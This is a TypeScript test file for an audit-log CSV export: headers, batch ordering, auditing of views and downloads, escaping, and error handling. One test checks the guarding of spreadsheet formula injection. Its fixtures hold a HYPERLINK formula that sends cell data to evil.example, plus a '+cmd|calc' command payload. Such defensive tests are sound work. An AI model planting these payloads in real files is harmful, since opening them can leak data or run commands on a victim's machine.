import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { and, eq, sql } from 'drizzle-orm';
import { auditLog } from '../db/schema/audit.ts';
import { translator } from '../i18n/catalogue.ts';
import { paths } from '../paths.ts';
import type { TestBrowser } from '../test/browser.ts';
import { createTestDatabase } from '../test/database.ts';
import { createUser, signIn } from '../test/harness.ts';
import { openAuditCsv } from './csv-export.ts';
import { auditHarness, download, entryRows, writeEntries, writeNumbered } from './test-fixtures.ts';

const h = await auditHarness();

/** Downloads the entries of one day (YYYY-MM-DD, in the user's zone) as CSV. */
const downloadDay = (browser: TestBrowser, day: string) => download(browser, paths.audit.csv('test', { from: day, to: day }));

describe('CSV download', () => {
  test('headers, the zone in the header row, every one of 1200 entries in order, in keyset batches', async () => {
    const { user: admin, browser } = await signIn(h);
    await writeNumbered(h, admin, 'test.csv', 1200, 7);
    await browser.get(paths.audit.list('test', { event: 'test.csv' }));
    const href = browser.page.link('Download these entries as CSV');
    assert.equal(href, '/test/audit/download.csv?event=test.csv');
    const { response, bom, rows } = await download(browser, href);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('Content-Type'), 'text/csv; charset=utf-8');
    assert.equal(response.headers.get('Content-Disposition'), `attachment; filename="audit-${admin.pspid}-20260401.csv"`);
    assert.equal(response.headers.get('Cache-Control'), 'no-store');
    assert.ok(bom, 'a byte order mark for spreadsheets');
    assert.deepEqual(rows[0], [
      'Time (Europe/Brussels)',
      'USERID',
      'Event',
      'Event type',
      'Result',
      'Origin IP',
      'Object',
      'Object ID',
      'Details',
      'Details (JSON)',
    ]);
    assert.equal(rows.length, 1201);
    assert.deepEqual(rows[1], [
      '2026-03-10 09:02:51 +01:00',
      admin.userid,
      'test.csv',
      'test.csv',
      'Success',
      '',
      '',
      '',
      'n: 1,199',
      '{"n": 1199}',
    ]);
    const ns = rows.slice(1).map((row) => (JSON.parse(row[9] ?? '') as { n: number }).n);
    assert.deepEqual(
      ns,
      Array.from({ length: 1200 }, (_, i) => 1199 - i),
    );
  });

  test('cells that a spreadsheet would run as formulas come out guarded', async () => {
    const { user: admin, browser } = await signIn(h);
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    await writeEntries(h, admin, [
      {
        at: new Date('2026-03-05T10:00:00Z'),
        eventType: 'login',
        actor: formula,
        ip: '@SUM(1+1)',
        object: '+cmd|calc',
        details: { [formula]: 'x' },
      },
      { at: new Date('2026-03-05T11:00:00Z'), eventType: '-2+3', details: {} },
    ]);
    const { rows } = await downloadDay(browser, '2026-03-05');
    assert.equal(rows.length, 3);
    const [, second, first] = rows;
    assert.equal(first?.[1], `'${formula}`);
    assert.equal(first?.[5], "'@SUM(1+1)");
    assert.equal(first?.[6], "'+cmd|calc");
    assert.equal(first?.[7], "'+cmd|calc");
    assert.equal(first?.[8], `'${formula}: x`);
    assert.equal(second?.[2], "'-2+3");
    assert.equal(second?.[3], "'-2+3");
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
  });

  test('reading is audited: each page view and each download, with the filters, the actor and the account', async () => {
    const { user: admin, browser } = await signIn(h);
    await browser.get(paths.audit.list('test', { from: '2026-03-01', to: '2026-03-31', event: 'login', result: 'failure' }));
    await download(browser, paths.audit.csv('test', { user: admin.userid }));
    const entries = await h.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.accountId, admin.accountId), eq(auditLog.actor, admin.userid)));
    const view = entries.find((entry) => entry.eventType === 'audit.view');
    const downloadEntry = entries.find((entry) => entry.eventType === 'audit.download');
    assert.ok(view && downloadEntry);
    for (const entry of [view, downloadEntry]) {
      assert.equal(entry.userId, admin.id);
      assert.equal(entry.object, `account:${admin.accountId}`);
      assert.equal(entry.success, true);
    }
    assert.deepEqual(view.details, {
      from: '2026-03-01',
      to: '2026-03-31',
      timeZone: 'Europe/Brussels',
      event: 'login',
      result: 'failure',
    });
    assert.deepEqual(downloadEntry.details, { user: admin.userid });
    await browser.get(paths.audit.list('test', { event: 'audit.download' }));
    assert.deepEqual(
      entryRows(browser.page).map((cells) => [cells[2], cells[5], cells[6]]),
      [['Audit log downloaded', `Account ${admin.pspid}`, `User: ${admin.userid}`]],
    );
  });

  test('words beside the stored codes: the event and its type, the user by USERID and the object id, details in words and as JSON', async () => {
    const { user: admin, browser } = await signIn(h);
    const alice = await createUser(h.db, admin.accountId, admin.pspid, { userid: 'alice' });
    await writeEntries(h, admin, [
      {
        at: new Date('2026-03-06T10:00:00Z'),
        eventType: 'password.change',
        success: false,
        object: `user:${admin.id}`,
        details: { forced: false, problems: ['password.problem.too_short', 'password.problem.needs_digit'] },
      },
      {
        at: new Date('2026-03-06T11:00:00Z'),
        eventType: 'login',
        success: false,
        object: `user:${alice.id}`,
        details: { form: 'userid', pspid: admin.pspid, reason: 'wrong_password' },
      },
    ]);
    const { rows } = await downloadDay(browser, '2026-03-06');
    assert.deepEqual(
      rows.slice(1).map((row) => row.slice(2)),
      [
        [
          'Login',
          'login',
          'Failure',
          '',
          'User alice',
          `user:${alice.id}`,
          `Login form: With a USERID; PSPID: ${admin.pspid}; Reason: Wrong password`,
          `{"form": "userid", "pspid": "${admin.pspid}", "reason": "wrong_password"}`,
        ],
        [
          'Password change',
          'password.change',
          'Failure',
          '',
          `User ${admin.userid}`,
          `user:${admin.id}`,
          'Change required: No; Problems: Too short, No digit',
          '{"forced": false, "problems": ["password.problem.too_short", "password.problem.needs_digit"]}',
        ],
      ],
    );
  });

  test('any text survives the way from the database: separators, line breaks, quotes, backslashes, accents', async () => {
    const { user: admin, browser } = await signIn(h);
    const odd = 'a\u001fb\nc"d\\e é\t,x\r\by';
    await writeEntries(h, admin, [
      {
        at: new Date('2026-03-07T10:00:00Z'),
        eventType: 'test.odd',
        actor: odd,
        ip: null,
        object: null,
        details: { [odd]: odd, list: [odd, null] },
      },
    ]);
    const { rows } = await downloadDay(browser, '2026-03-07');
    assert.equal(rows.length, 2);
    const [, row] = rows;
    assert.deepEqual(row?.slice(1, 8), [odd, 'test.odd', 'test.odd', 'Success', '', '', '']);
    // jsonb keeps keys in its own order (shorter first).
    assert.equal(row?.[8], `list: ${odd}, —; ${odd}: ${odd}`);
    assert.deepEqual(JSON.parse(row?.[9] ?? ''), { [odd]: odd, list: [odd, null] });
  });

  test('the rows of every batch, in order, when entries share a time across the end of a batch', async () => {
    const { user: admin } = await signIn(h);
    await writeNumbered(h, admin, 'test.batches', 40, 7);
    const stream = await openAuditCsv(h.db, {
      account: { id: admin.accountId, pspid: admin.pspid },
      filters: { eventType: 'test.batches', result: 'all' },
      t: translator('en'),
      zone: 'Europe/Brussels',
      onError: (error) => assert.fail(String(error)),
      batchSize: 5,
    });
    const lines = (await new Response(stream).text()).split('\r\n').slice(1, -1);
    assert.deepEqual(
      // The JSON cell is quoted, its quotes doubled: {""n"": 39}.
      lines.map((line) => Number(/""n"": (\d+)/.exec(line)?.[1])),
      Array.from({ length: 40 }, (_, i) => 39 - i),
    );
  });

  test('nothing is sent when the first rows cannot be read: the failure is thrown, for the error page', async () => {
    // A database of its own whose log cannot be read: on a Postgres server the COPY's own connection fails.
    const broken = await createTestDatabase();
    try {
      await broken.db.execute(sql`alter table audit_log rename to audit_log_elsewhere`);
      await assert.rejects(
        openAuditCsv(broken.db, {
          account: { id: '00000000-0000-4000-8000-000000000000', pspid: 'X' },
          filters: { result: 'all' },
          t: translator('en'),
          zone: 'UTC',
          onError: () => assert.fail('not a stream error'),
        }),
        /relation "audit_log" does not exist/,
      );
    } finally {
      await broken.close();
    }
  });
});
